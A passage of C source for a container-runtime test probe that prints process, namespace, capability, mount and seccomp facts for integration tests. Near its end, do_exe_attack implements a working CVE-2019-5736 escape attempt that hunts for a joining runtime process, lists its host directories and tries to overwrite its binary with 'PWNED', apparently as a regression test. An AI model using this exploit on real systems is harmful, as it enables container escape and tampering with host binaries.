/* probe.c - the process integration tests run inside a container: each subcommand prints
 * facts as stable `key=value` lines, so shell tests compare them with what config.json asked.
 * `probe id caps nnp` runs several subcommands in order; errors read `key=error ENOENT`. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <poll.h>
#include <stddef.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/personality.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/utsname.h>
#include <time.h>
#include <unistd.h>

#ifndef PR_GET_NO_NEW_PRIVS
#define PR_GET_NO_NEW_PRIVS 39
#endif
#ifndef CLOCK_BOOTTIME
#define CLOCK_BOOTTIME 7
#endif

struct name_num {
	const char *name;
	int num;
};

static const struct name_num errnos[] = {
	{ "EPERM", EPERM },   { "ENOENT", ENOENT },   { "EIO", EIO },	    { "ENXIO", ENXIO },
	{ "EBADF", EBADF },   { "EACCES", EACCES },   { "EBUSY", EBUSY },   { "EEXIST", EEXIST },
	{ "ENODEV", ENODEV }, { "ENOTDIR", ENOTDIR }, { "EISDIR", EISDIR }, { "EINVAL", EINVAL },
	{ "ENOSPC", ENOSPC }, { "EROFS", EROFS },     { "ELOOP", ELOOP },   { "ENOTTY", ENOTTY },
	{ "ENOSYS", ENOSYS }, { "ETXTBSY", ETXTBSY }, { NULL, 0 },
};

static const struct name_num signals[] = {
	{ "HUP", SIGHUP },	 { "INT", SIGINT },   { "QUIT", SIGQUIT },   { "ILL", SIGILL },
	{ "TRAP", SIGTRAP },	 { "ABRT", SIGABRT }, { "BUS", SIGBUS },     { "FPE", SIGFPE },
	{ "KILL", SIGKILL },	 { "USR1", SIGUSR1 }, { "SEGV", SIGSEGV },   { "USR2", SIGUSR2 },
	{ "PIPE", SIGPIPE },	 { "ALRM", SIGALRM }, { "TERM", SIGTERM },   { "CHLD", SIGCHLD },
	{ "CONT", SIGCONT },	 { "STOP", SIGSTOP }, { "TSTP", SIGTSTP },   { "TTIN", SIGTTIN },
	{ "TTOU", SIGTTOU },	 { "URG", SIGURG },   { "XCPU", SIGXCPU },   { "XFSZ", SIGXFSZ },
	{ "VTALRM", SIGVTALRM }, { "PROF", SIGPROF }, { "WINCH", SIGWINCH }, { "IO", SIGIO },
	{ "PWR", SIGPWR },	 { "SYS", SIGSYS },   { NULL, 0 },
};

static const struct name_num rlimits[] = {
	{ "CPU", RLIMIT_CPU },
	{ "FSIZE", RLIMIT_FSIZE },
	{ "DATA", RLIMIT_DATA },
	{ "STACK", RLIMIT_STACK },
	{ "CORE", RLIMIT_CORE },
	{ "RSS", RLIMIT_RSS },
	{ "NPROC", RLIMIT_NPROC },
	{ "NOFILE", RLIMIT_NOFILE },
	{ "MEMLOCK", RLIMIT_MEMLOCK },
	{ "AS", RLIMIT_AS },
	{ "LOCKS", RLIMIT_LOCKS },
	{ "SIGPENDING", RLIMIT_SIGPENDING },
	{ "MSGQUEUE", RLIMIT_MSGQUEUE },
	{ "NICE", RLIMIT_NICE },
	{ "RTPRIO", RLIMIT_RTPRIO },
	{ "RTTIME", RLIMIT_RTTIME },
	{ NULL, 0 },
};

static const char *const ns_names[] = { "pid",	"net",	  "mnt",  "ipc", "uts",
					"user", "cgroup", "time", NULL };

static int lookup(const struct name_num *t, const char *name, int *num)
{
	for (; t->name; t++) {
		if (strcmp(t->name, name) == 0) {
			*num = t->num;
			return 0;
		}
	}
	return -1;
}

static const char *errno_name(int e)
{
	static char buf[32];
	const struct name_num *t;

	for (t = errnos; t->name; t++) {
		if (t->num == e)
			return t->name;
	}
	snprintf(buf, sizeof(buf), "errno %d", e);
	return buf;
}

/* "15", "TERM" or "SIGTERM"; -1 when unknown. */
static int parse_signal(const char *s)
{
	char *end;
	long n = strtol(s, &end, 10);
	int num;

	if (*s && *end == '\0')
		return n > 0 && n < 65 ? (int)n : -1;
	if (strncmp(s, "SIG", 3) == 0)
		s += 3;
	return lookup(signals, s, &num) == 0 ? num : -1;
}

static void print_error(const char *key, int e)
{
	printf("%s=error %s\n", key, errno_name(e));
}

static int do_ns(char **argv)
{
	char path[64], key[32], buf[128];
	int i;

	for (i = 0; ns_names[i]; i++) {
		ssize_t n;

		snprintf(path, sizeof(path), "/proc/self/ns/%s", ns_names[i]);
		snprintf(key, sizeof(key), "ns.%s", ns_names[i]);
		n = readlink(path, buf, sizeof(buf) - 1);
		if (n < 0) {
			print_error(key, errno);
			continue;
		}
		buf[n] = '\0';
		printf("%s=%s\n", key, buf);
	}
	return 0;
}

static int do_id(char **argv)
{
	gid_t groups[NGROUPS_MAX];
	int i, n = getgroups(NGROUPS_MAX, groups);

	printf("uid=%u\ngid=%u\neuid=%u\negid=%u\ngroups=", getuid(), getgid(), geteuid(),
	       getegid());
	for (i = 0; i < n; i++)
		printf("%s%u", i ? "," : "", groups[i]);
	printf("\n");
	return 0;
}

/* Prints the "Cap*:" lines (and NoNewPrivs, Seccomp) of /proc/self/status as cap.inh=… */
static int do_caps(char **argv)
{
	static const char *const keys[][2] = { { "CapInh:", "cap.inh" }, { "CapPrm:", "cap.prm" },
					       { "CapEff:", "cap.eff" }, { "CapBnd:", "cap.bnd" },
					       { "CapAmb:", "cap.amb" }, { NULL, NULL } };
	FILE *f = fopen("/proc/self/status", "re");
	char line[256];
	int i;

	if (!f) {
		print_error("caps", errno);
		return 0;
	}
	while (fgets(line, sizeof(line), f)) {
		for (i = 0; keys[i][0]; i++) {
			size_t len = strlen(keys[i][0]);

			if (strncmp(line, keys[i][0], len) == 0)
				printf("%s=%s", keys[i][1], line + len + strspn(line + len, " \t"));
		}
	}
	fclose(f);
	return 0;
}

static int do_nnp(char **argv)
{
	printf("nnp=%d\n", prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0));
	return 0;
}

static void print_limit(rlim_t v)
{
	if (v == RLIM_INFINITY)
		printf("unlimited");
	else
		printf("%llu", (unsigned long long)v);
}

static int do_rlimit(char **argv)
{
	const char *name = argv[0];
	struct rlimit rl;
	int res;

	if (strncmp(name, "RLIMIT_", 7) == 0)
		name += 7;
	if (lookup(rlimits, name, &res) < 0) {
		fprintf(stderr, "probe: unknown rlimit %s\n", argv[0]);
		return 2;
	}
	if (getrlimit(res, &rl) < 0) {
		printf("rlimit.%s=error %s\n", name, errno_name(errno));
		return 0;
	}
	printf("rlimit.%s=", name);
	print_limit(rl.rlim_cur);
	printf(" ");
	print_limit(rl.rlim_max);
	printf("\n");
	return 0;
}

static int do_umask(char **argv)
{
	mode_t m = umask(0);

	umask(m);
	printf("umask=%04o\n", (unsigned)m);
	return 0;
}

static int do_cwd(char **argv)
{
	char buf[PATH_MAX];

	if (!getcwd(buf, sizeof(buf)))
		print_error("cwd", errno);
	else
		printf("cwd=%s\n", buf);
	return 0;
}

static int do_env(char **argv)
{
	const char *v = getenv(argv[0]);

	if (v)
		printf("env.%s=%s\n", argv[0], v);
	else
		printf("env.%s.unset=1\n", argv[0]);
	return 0;
}

static int do_environ(char **argv)
{
	extern char **environ;
	char **e;

	for (e = environ; *e; e++)
		printf("environ=%s\n", *e);
	return 0;
}

/* The whole vector, program name included: process.args[0] must reach execve unchanged. */
static char **main_argv;

static int do_argv(char **argv)
{
	int i;

	for (i = 0; main_argv[i]; i++)
		printf("argv.%d=%s\n", i, main_argv[i]);
	printf("argc=%d\n", i);
	return 0;
}

/* enosys NAMES CMD...: runs CMD with the syscalls NAMES (comma-separated) answering ENOSYS,
 * as on a kernel that predates them: the tests reach runt's fallbacks this way. */
static int do_enosys(char **argv)
{
	static const struct {
		const char *name;
		int nr; /* the same on every architecture for syscalls this recent */
	} table[] = { { "seccomp", SYS_seccomp }, /* not recent: for runt check's test */
		      { "bpf", SYS_bpf },	  { "pidfd_send_signal", 424 }, /* 5.1 */
		      { "open_tree", 428 },				 /* 5.2, as move_mount */
		      { "move_mount", 429 },	  { "pidfd_open", 434 }, /* 5.3 */
		      { "clone3", 435 },				 /* 5.3 */
		      { "close_range", 436 },				 /* 5.9 */
		      { "openat2", 437 },				 /* 5.6 */
		      { "mount_setattr", 442 } };			 /* 5.12 */
	/* musl-gcc sees no linux/ headers: classic BPF by hand (ld nr; jeq; ret) */
	struct insn {
		uint16_t code;
		uint8_t jt, jf;
		uint32_t k;
	} f[24] = { { 0x20, 0, 0, 0 } };
	struct {
		unsigned short len;
		struct insn *filter;
	} prog = { 0, f };
	int n = 1;

	for (size_t i = 0; argv[0] && i < sizeof(table) / sizeof(table[0]); i++) {
		if (!strstr(argv[0], table[i].name))
			continue;
		f[n++] = (struct insn){ 0x15, 0, 1, (uint32_t)table[i].nr };
		f[n++] = (struct insn){ 0x06, 0, 0, 0x00050000 | ENOSYS };
	}
	f[n++] = (struct insn){ 0x06, 0, 0, 0x7fff0000 };
	prog.len = n;
	if (!argv[0] || !argv[1] || syscall(SYS_seccomp, 1, 0, &prog) < 0) {
		perror("probe: enosys");
		return 2;
	}
	execv(argv[1], argv + 1);
	perror("probe: enosys: exec");
	return 127;
}

static int do_hostname(char **argv)
{
	struct utsname u;

	uname(&u);
	printf("hostname=%s\n", u.nodename);
	return 0;
}

static int do_domainname(char **argv)
{
	struct utsname u;

	uname(&u);
	printf("domainname=%s\n", u.domainname);
	return 0;
}

static int do_pid(char **argv)
{
	printf("pid=%d\nppid=%d\n", (int)getpid(), (int)getppid());
	return 0;
}

/* Prints the first line of a file as key=line, or key=error ENOENT. */
static void print_file_line(const char *key, const char *path)
{
	char buf[4096];
	ssize_t n;
	int fd = open(path, O_RDONLY | O_CLOEXEC);

	if (fd < 0) {
		print_error(key, errno);
		return;
	}
	n = read(fd, buf, sizeof(buf) - 1);
	if (n < 0) {
		print_error(key, errno);
		close(fd);
		return;
	}
	close(fd);
	buf[n] = '\0';
	buf[strcspn(buf, "\n")] = '\0';
	printf("%s=%s\n", key, buf);
}

static int do_oom(char **argv)
{
	print_file_line("oom_score_adj", "/proc/self/oom_score_adj");
	return 0;
}

static int do_personality(char **argv)
{
	printf("personality=0x%x\n", (unsigned)personality(0xffffffff));
	return 0;
}

/* One mountinfo line: id parent maj:min root point opts [optional…] - type source superopts */
static void print_mount(char *line)
{
	char *f[64], *save = NULL, *tok, prop[256] = "";
	int n = 0, sep = -1, i;

	for (tok = strtok_r(line, " \n", &save); tok && n < 64;
	     tok = strtok_r(NULL, " \n", &save)) {
		if (strcmp(tok, "-") == 0 && sep < 0)
			sep = n;
		f[n++] = tok;
	}
	if (sep < 6 || n < sep + 4)
		return;
	for (i = 6; i < sep; i++) {
		strncat(prop, i > 6 ? "," : "", sizeof(prop) - strlen(prop) - 1);
		strncat(prop, f[i], sizeof(prop) - strlen(prop) - 1);
	}
	printf("mount=%s type=%s opts=%s super=%s prop=%s src=%s root=%s\n", f[4], f[sep + 1], f[5],
	       f[sep + 3], prop[0] ? prop : "private", f[sep + 2], f[3]);
}

static int do_mountinfo(char **argv)
{
	FILE *f = fopen("/proc/self/mountinfo", "re");
	char line[4096];

	if (!f) {
		print_error("mountinfo", errno);
		return 0;
	}
	while (fgets(line, sizeof(line), f))
		print_mount(line);
	fclose(f);
	return 0;
}

static int do_timens(char **argv)
{
	struct timespec mono, boot;

	clock_gettime(CLOCK_MONOTONIC, &mono);
	clock_gettime(CLOCK_BOOTTIME, &boot);
	printf("monotonic=%lld\nboottime=%lld\n", (long long)mono.tv_sec, (long long)boot.tv_sec);
	return 0;
}

static int do_exit(char **argv)
{
	fflush(stdout);
	exit(atoi(argv[0]));
}

/* The init of a pid namespace ignores signals it has no handler for, even from itself;
 * a real fault is forced by the kernel, so SEGV can always kill the probe. */
static int do_kill_self(char **argv)
{
	int sig = parse_signal(argv[0]);
	sigset_t all;

	if (sig < 0) {
		fprintf(stderr, "probe: unknown signal %s\n", argv[0]);
		return 2;
	}
	fflush(stdout);
	signal(sig, SIG_DFL);
	sigfillset(&all);
	sigprocmask(SIG_UNBLOCK, &all, NULL);
	kill(getpid(), sig);
	if (sig == SIGSEGV)
		*(volatile int *)(uintptr_t)0 = 0;
	printf("kill-self=ignored\n");
	fflush(stdout);
	exit(1);
}

static int do_sleep(char **argv)
{
	double s = strtod(argv[0], NULL);
	struct timespec ts = { (time_t)s, (long)((s - (time_t)s) * 1e9) };

	fflush(stdout);
	while (nanosleep(&ts, &ts) < 0 && errno == EINTR)
		;
	return 0;
}

static volatile sig_atomic_t caught;

static void on_signal(int sig)
{
	caught = sig;
}

/* Handlers make the signal deliverable even to a pid namespace's init. */
static int do_wait_signal(char **argv)
{
	struct sigaction sa = { .sa_handler = on_signal };
	sigset_t all, none;
	int sig;

	sigfillset(&all);
	sigemptyset(&none);
	sigprocmask(SIG_BLOCK, &all, NULL);
	for (sig = 1; sig < 32; sig++) {
		if (sig != SIGKILL && sig != SIGSTOP && sig != SIGCHLD)
			sigaction(sig, &sa, NULL);
	}
	printf("ready=1\n");
	fflush(stdout);
	while (!caught)
		sigsuspend(&none);
	printf("signal=%d\n", (int)caught);
	fflush(stdout);
	exit(0);
}

static void print_fd(int fd)
{
	char path[64], buf[PATH_MAX];
	ssize_t n;

	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	n = readlink(path, buf, sizeof(buf) - 1);
	if (n < 0) {
		printf("fd.%d=closed\n", fd);
		return;
	}
	buf[n] = '\0';
	printf("fd.%d=%s\n", fd, buf);
}

static int do_stdio(char **argv)
{
	int fd;

	for (fd = 0; fd < 3; fd++)
		print_fd(fd);
	return 0;
}

/* Every open fd except the one reading /proc/self/fd: a runtime must not leak its own. */
static int do_fds(char **argv)
{
	DIR *d = opendir("/proc/self/fd");
	struct dirent *e;
	int fds[1024], n = 0, i;

	if (!d) {
		print_error("fds", errno);
		return 0;
	}
	while ((e = readdir(d)) && n < 1024) {
		if (e->d_name[0] != '.' && atoi(e->d_name) != dirfd(d))
			fds[n++] = atoi(e->d_name);
	}
	closedir(d);
	for (i = 0; i < n; i++)
		print_fd(fds[i]);
	return 0;
}

static int do_write(char **argv)
{
	char key[PATH_MAX + 16];
	int fd = open(argv[0], O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);

	snprintf(key, sizeof(key), "write.%s", argv[0]);
	if (fd < 0 || dprintf(fd, "%s\n", argv[1]) < 0) {
		print_error(key, errno);
		if (fd >= 0)
			close(fd);
		return 0;
	}
	close(fd);
	printf("%s=ok\n", key);
	return 0;
}

static int do_read(char **argv)
{
	char key[PATH_MAX + 16];

	snprintf(key, sizeof(key), "read.%s", argv[0]);
	print_file_line(key, argv[0]);
	return 0;
}

static const char *file_type(mode_t m)
{
	if (S_ISREG(m))
		return "reg";
	if (S_ISDIR(m))
		return "dir";
	if (S_ISCHR(m))
		return "chr";
	if (S_ISBLK(m))
		return "blk";
	if (S_ISLNK(m))
		return "lnk";
	if (S_ISFIFO(m))
		return "fifo";
	return "sock";
}

/* stat./dev/null=chr 0666 0 0 1:3 (type, permission bits, uid, gid, rdev) */
static int do_stat(char **argv)
{
	struct stat st;

	if (lstat(argv[0], &st) < 0) {
		printf("stat.%s=error %s\n", argv[0], errno_name(errno));
		return 0;
	}
	printf("stat.%s=%s %04o %u %u %u:%u\n", argv[0], file_type(st.st_mode),
	       (unsigned)(st.st_mode & 07777), st.st_uid, st.st_gid, major(st.st_rdev),
	       minor(st.st_rdev));
	return 0;
}

static int do_readlink(char **argv)
{
	char buf[PATH_MAX];
	ssize_t n = readlink(argv[0], buf, sizeof(buf) - 1);

	if (n < 0) {
		printf("readlink.%s=error %s\n", argv[0], errno_name(errno));
		return 0;
	}
	buf[n] = '\0';
	printf("readlink.%s=%s\n", argv[0], buf);
	return 0;
}

static int do_sysctl(char **argv)
{
	char path[PATH_MAX], key[PATH_MAX];
	char *p;

	snprintf(path, sizeof(path), "/proc/sys/%s", argv[0]);
	for (p = path + strlen("/proc/sys/"); *p; p++) {
		if (*p == '.')
			*p = '/';
	}
	snprintf(key, sizeof(key), "sysctl.%s", argv[0]);
	print_file_line(key, path);
	return 0;
}

static int do_cgroup(char **argv)
{
	FILE *f = fopen("/proc/self/cgroup", "re");
	char line[4096];

	if (!f) {
		print_error("cgroup", errno);
		return 0;
	}
	while (fgets(line, sizeof(line), f))
		printf("cgroup=%s", line);
	fclose(f);
	return 0;
}

static int do_echo(char **argv)
{
	printf("%s\n", argv[0]);
	return 0;
}

static int do_stderr(char **argv)
{
	fflush(stdout);
	dprintf(2, "%s\n", argv[0]);
	return 0;
}

/* A console-socket receiver (what conmon and containerd do): accept one connection, take
 * the pty master from SCM_RIGHTS, type TEXT into it and print what comes back. */
static int recv_master(int conn)
{
	char name[64], cbuf[CMSG_SPACE(sizeof(int))];
	struct iovec iov = { name, sizeof(name) };
	struct msghdr mh = { .msg_iov = &iov,
			     .msg_iovlen = 1,
			     .msg_control = cbuf,
			     .msg_controllen = sizeof(cbuf) };
	struct cmsghdr *cm;
	int fd = -1;

	if (recvmsg(conn, &mh, 0) < 0)
		return -1;
	cm = CMSG_FIRSTHDR(&mh);
	if (cm && cm->cmsg_type == SCM_RIGHTS)
		memcpy(&fd, CMSG_DATA(cm), sizeof(int));
	return fd;
}

static void print_console(int master)
{
	char buf[4096], line[4096];
	size_t len = 0;
	ssize_t n;
	struct pollfd p = { master, POLLIN, 0 };

	while (poll(&p, 1, 10000) > 0 && (n = read(master, buf, sizeof(buf))) > 0)
		for (ssize_t i = 0; i < n; i++) {
			if (buf[i] == '\r')
				continue;
			if (buf[i] != '\n' && len < sizeof(line) - 1) {
				line[len++] = buf[i];
				continue;
			}
			printf("console=%.*s\n", (int)len, line);
			len = 0;
		}
	if (len)
		printf("console=%.*s\n", (int)len, line);
}

static int do_console_recv(char **argv)
{
	struct sockaddr_un sa = { .sun_family = AF_UNIX };
	int s = socket(AF_UNIX, SOCK_STREAM, 0), conn, master;

	strncpy(sa.sun_path, argv[0], sizeof(sa.sun_path) - 1);
	if (s < 0 || bind(s, (struct sockaddr *)&sa, sizeof(sa)) < 0 || listen(s, 1) < 0 ||
	    (conn = accept(s, NULL, NULL)) < 0 || (master = recv_master(conn)) < 0) {
		print_error("console-recv", errno);
		return 1;
	}
	printf("console.master=ok\n");
	if (write(master, argv[1], strlen(argv[1])) < 0 || write(master, "\n", 1) < 0)
		print_error("console-write", errno);
	print_console(master);
	return 0;
}

/* sd_notify by hand: the message's literal "\n" become newlines; the socket is $NOTIFY_SOCKET. */
static int do_notify(char **argv)
{
	struct sockaddr_un a = { .sun_family = AF_UNIX };
	const char *path = getenv("NOTIFY_SOCKET");
	char msg[4096];
	size_t n = 0;
	int fd;

	for (const char *p = argv[0]; *p && n < sizeof(msg) - 1; p++)
		msg[n++] = p[0] == '\\' && p[1] == 'n' ? (p++, '\n') : *p;
	if (!path || strlen(path) >= sizeof(a.sun_path)) {
		print_error("notify", ENOENT);
		return 0;
	}
	strcpy(a.sun_path, path);
	fd = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (fd < 0 || sendto(fd, msg, n, 0, (struct sockaddr *)&a, sizeof(a)) < 0)
		print_error("notify", errno);
	else
		printf("notify=ok\n");
	if (fd >= 0)
		close(fd);
	return 0;
}

/* The host side of sd_notify for tests: N datagrams (30 s at most) on a socket bound at PATH
 * ("@name": abstract), each line printed as notify=LINE, then end=1. */
static int do_notify_recv(char **argv)
{
	struct sockaddr_un a = { .sun_family = AF_UNIX };
	socklen_t alen = sizeof(a);
	struct timeval tv = { 30, 0 };
	char buf[4097];
	int fd, count = atoi(argv[1]);
	ssize_t n;

	snprintf(a.sun_path, sizeof(a.sun_path), "%s", argv[0]);
	if (argv[0][0] == '@') {
		a.sun_path[0] = '\0';
		alen = offsetof(struct sockaddr_un, sun_path) + strlen(argv[0]);
	} else {
		unlink(argv[0]);
	}
	fd = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (fd < 0 || bind(fd, (struct sockaddr *)&a, alen) < 0) {
		print_error("notify-recv", errno);
		return 1;
	}
	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
	for (int i = 0; i < count && (n = recv(fd, buf, sizeof(buf) - 1, 0)) >= 0; i++) {
		buf[n] = '\0';
		for (char *line = strtok(buf, "\n"); line; line = strtok(NULL, "\n"))
			printf("notify=%s\n", line);
	}
	printf("end=1\n");
	close(fd);
	if (argv[0][0] != '@')
		unlink(argv[0]);
	return 0;
}

/* Raw syscalls by name, so seccomp tests can call them with chosen arguments. */
static const struct name_num syscalls[] = {
	{ "getpid", SYS_getpid },
	{ "mkdirat", SYS_mkdirat },
	{ "personality", SYS_personality },
	{ "unshare", SYS_unshare },
	{ "keyctl", SYS_keyctl },
	{ "sethostname", SYS_sethostname },
	{ "acct", SYS_acct },
	{ "add_key", SYS_add_key },
	{ "getppid", SYS_getppid },
#ifdef SYS_clock_getres_time32 /* musl's name on 32-bit targets: the kernel's clock_getres */
	{ "clock_getres", SYS_clock_getres_time32 },
#else
	{ "clock_getres", SYS_clock_getres },
#endif
#ifdef __ARM_NR_cacheflush
	{ "cacheflush", __ARM_NR_cacheflush }, /* one of ARM's private calls (0xf0002) */
#endif
	{ NULL, 0 },
};

static int do_syscall(char **argv)
{
	int nr;
	long r;

	if (lookup(syscalls, argv[0], &nr) < 0)
		return fprintf(stderr, "probe: unknown syscall %s\n", argv[0]), 2;
	/* syscall() reads longs: an unsigned long long in its varargs shifts every argument on
	 * 32-bit ARM (register pairs), where arguments are 32 bits wide anyway */
	r = syscall(nr, (long)strtoull(argv[1], NULL, 0), (long)strtoull(argv[2], NULL, 0), 0L, 0L,
		    0L, 0L);
	if (r < 0)
		printf("syscall.%s=error %s\n", argv[0], errno_name(errno));
	else
		printf("syscall.%s=%ld\n", argv[0], r);
	return 0;
}

/* mkdir(PATH) through the i386 ABI (int 0x80) of an x86_64 process: the call seccomp sees
 * under the i386 audit arch, whatever rules name x86_64's numbers. The path is copied to
 * static memory, below 4 GB in this static non-PIE binary: int 0x80 passes 32-bit pointers. */
static int do_mkdir32(char **argv)
{
#ifdef __x86_64__
	static char path[256];
	long r = 39; /* i386 __NR_mkdir */

	strncpy(path, argv[0], sizeof(path) - 1);
	/* the kernel zeroes r8-r11 on the way back to a 64-bit process */
	__asm__ volatile("int $0x80"
			 : "+a"(r)
			 : "b"(path), "c"(0755)
			 : "memory", "r8", "r9", "r10", "r11");
	if (r < 0)
		printf("mkdir32=error %s\n", errno_name((int)-r));
	else
		printf("mkdir32=%ld\n", r);
#else
	printf("mkdir32=unsupported\n");
#endif
	return 0;
}

/* A seccomp notify agent (run on the host): accepts one connection on SOCK, saves the
 * container state runt sends to OUT, then answers every notification with ENOTTY. */
struct sc_notif {
	uint64_t id;
	uint32_t pid, flags;
	int32_t nr;
	uint32_t arch;
	uint64_t ip, args[6];
};

struct sc_notif_resp {
	uint64_t id;
	int64_t val;
	int32_t error;
	uint32_t flags;
};

#define SC_IOCTL_RECV 0xc0502100UL /* _IOWR('!', 0, struct seccomp_notif) */
#define SC_IOCTL_SEND 0xc0182101UL /* _IOWR('!', 1, struct seccomp_notif_resp) */

static int agent_accept(const char *path, char *state, size_t size)
{
	struct sockaddr_un sa = { .sun_family = AF_UNIX };
	char cbuf[CMSG_SPACE(sizeof(int))];
	struct iovec iov = { state, size - 1 };
	struct msghdr mh = { .msg_iov = &iov,
			     .msg_iovlen = 1,
			     .msg_control = cbuf,
			     .msg_controllen = sizeof(cbuf) };
	int s = socket(AF_UNIX, SOCK_STREAM, 0), c, fd = -1;
	ssize_t n;

	snprintf(sa.sun_path, sizeof(sa.sun_path), "%s", path);
	if (s < 0 || bind(s, (struct sockaddr *)&sa, sizeof(sa)) < 0 || listen(s, 1) < 0)
		return -1;
	printf("agent=ready\n");
	fflush(stdout);
	if ((c = accept(s, NULL, NULL)) < 0 || (n = recvmsg(c, &mh, 0)) <= 0)
		return -1;
	state[n] = '\0';
	if (CMSG_FIRSTHDR(&mh))
		memcpy(&fd, CMSG_DATA(CMSG_FIRSTHDR(&mh)), sizeof(int));
	close(c);
	close(s);
	return fd;
}

static int do_seccomp_agent(char **argv)
{
	static char state[65536];
	int fd = agent_accept(argv[0], state, sizeof(state));
	FILE *out = fopen(argv[1], "w");

	if (fd < 0 || !out)
		return fprintf(stderr, "probe: agent: %s\n", strerror(errno)), 1;
	fprintf(out, "%s\n", state);
	fclose(out);
	for (;;) {
		struct sc_notif req = { 0 };
		struct sc_notif_resp resp = { 0 };

		if (ioctl(fd, SC_IOCTL_RECV, &req) < 0)
			return errno == ENOENT || errno == EINTR ? 0 : 0;
		resp.id = req.id;
		resp.error = -ENOTTY;
		ioctl(fd, SC_IOCTL_SEND, &resp);
	}
}

/* The first process that is not a probe (a runt joining the container), or 0. */
static pid_t find_stranger(const char *self)
{
	char path[64], link[PATH_MAX];
	DIR *d = opendir("/proc");
	struct dirent *e;
	pid_t pid = 0;

	while (d && !pid && (e = readdir(d))) {
		int p = atoi(e->d_name);
		ssize_t n;

		if (p <= 0 || p == getpid())
			continue;
		snprintf(path, sizeof(path), "/proc/%d/exe", p);
		n = readlink(path, link, sizeof(link) - 1);
		if (n > 0 && (link[n] = '\0', strcmp(link, self)))
			pid = p;
	}
	if (d)
		closedir(d);
	return pid;
}

/* Every fd of pid (attack.fd.N=target); for a directory (attack.dirfd=) also what lies two
 * levels above it (attack.updir=). pid's own root is not reported as a directory: it is
 * /proc/<pid>/root already (a joined run's init holds it O_PATH while it mounts /proc). */
static void print_dir_fds(pid_t pid)
{
	char dir[64], path[PATH_MAX], link[PATH_MAX];
	struct dirent *e, *u;
	struct stat st, root = { 0 };
	DIR *d, *up;

	snprintf(dir, sizeof(dir), "/proc/%d/root", (int)pid);
	if (stat(dir, &root) < 0)
		root.st_ino = 0;
	snprintf(dir, sizeof(dir), "/proc/%d/fd", (int)pid);
	if (!(d = opendir(dir)))
		return;
	while ((e = readdir(d))) {
		ssize_t n;

		snprintf(path, sizeof(path), "%s/%s", dir, e->d_name);
		n = readlink(path, link, sizeof(link) - 1);
		if (e->d_name[0] == '.' || n < 0)
			continue;
		printf("attack.fd.%s=%.*s\n", e->d_name, (int)n, link);
		if (stat(path, &st) < 0 || !S_ISDIR(st.st_mode) ||
		    (st.st_ino == root.st_ino && st.st_dev == root.st_dev))
			continue;
		printf("attack.dirfd=%.*s\n", (int)n, link);
		strcat(path, "/../..");
		if (!(up = opendir(path)))
			continue;
		printf("attack.updir=");
		while ((u = readdir(up)))
			printf("%s ", u->d_name);
		printf("\n");
		closedir(up);
	}
	closedir(d);
}

/* pid's root and cwd (attack.root=, attack.cwd=: what they list) when they hold a name our
 * root lacks: a runt that shows itself before pivot_root hands out the host's tree (another
 * container made from the same image lists the same names). */
static void print_foreign_dirs(pid_t pid)
{
	static const char *const which[] = { "root", "cwd" };
	char path[64], mine[PATH_MAX], names[4096];

	for (int i = 0; i < 2; i++) {
		struct dirent *e;
		struct stat st;
		size_t n = 0;
		int foreign = 0;
		DIR *d;

		snprintf(path, sizeof(path), "/proc/%d/%s", (int)pid, which[i]);
		if (!(d = opendir(path)))
			continue;
		while ((e = readdir(d))) {
			snprintf(mine, sizeof(mine), "/%s", e->d_name);
			foreign |= lstat(mine, &st) < 0;
			n += snprintf(names + n, n < sizeof(names) ? sizeof(names) - n : 0, "%s ",
				      e->d_name);
		}
		closedir(d);
		if (foreign)
			printf("attack.%s=%.*s\n", which[i], (int)sizeof(names), names);
	}
}

/* Reopen the exe fd for writing once no runt maps it any more (ETXTBSY until then). */
static void try_write(int fd, int flags, const char *key, time_t end)
{
	char path[64];
	int w;

	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	while ((w = open(path, flags | O_CLOEXEC)) < 0 && errno == ETXTBSY && time(NULL) < end)
		usleep(10000);
	if (w < 0) {
		print_error(key, errno);
		return;
	}
	printf("%s=ok\n", key);
	if (pwrite(w, "PWNED", 5, 0) == 5)
		printf("attack.write=ok\n");
	else
		print_error("attack.write", errno);
	close(w);
}

/* CVE-2019-5736 from inside (needs CAP_SYS_PTRACE): watch /proc for a process that is not
 * a probe, hold its exe with O_PATH, list its directory fds, then try to write its binary. */
static int do_exe_attack(char **argv)
{
	time_t end = time(NULL) + atoi(argv[0]);
	char self[PATH_MAX], path[64];
	ssize_t n = readlink("/proc/self/exe", self, sizeof(self) - 1);
	pid_t pid;
	int fd = -1;

	self[n > 0 ? n : 0] = '\0';
	printf("attack=ready\n");
	while (fd < 0 && time(NULL) < end) {
		if (!(pid = find_stranger(self)))
			continue;
		print_dir_fds(pid);
		print_foreign_dirs(pid);
		snprintf(path, sizeof(path), "/proc/%d/exe", (int)pid);
		fd = open(path, O_PATH | O_CLOEXEC);
	}
	if (fd < 0) {
		printf("attack.found=0\n");
		return 0;
	}
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	n = readlink(path, self, sizeof(self) - 1);
	printf("attack.exe=%.*s\n", n > 0 ? (int)n : 0, self);
	try_write(fd, O_WRONLY, "attack.wronly", end);
	try_write(fd, O_RDWR, "attack.rdwr", end);
	printf("attack.done=1\n");
	return 0;
}

struct subcmd {
	const char *name;
	int nargs; /* -1: takes the rest of the command line */
	int (*fn)(char **argv);
	const char *help;
};

static const struct subcmd subcmds[] = {
	{ "ns", 0, do_ns, "ns.pid=pid:[…] for pid net mnt ipc uts user cgroup time" },
	{ "id", 0, do_id, "uid gid euid egid groups=a,b" },
	{ "caps", 0, do_caps, "cap.inh cap.prm cap.eff cap.bnd cap.amb (hex)" },
	{ "nnp", 0, do_nnp, "nnp=0|1" },
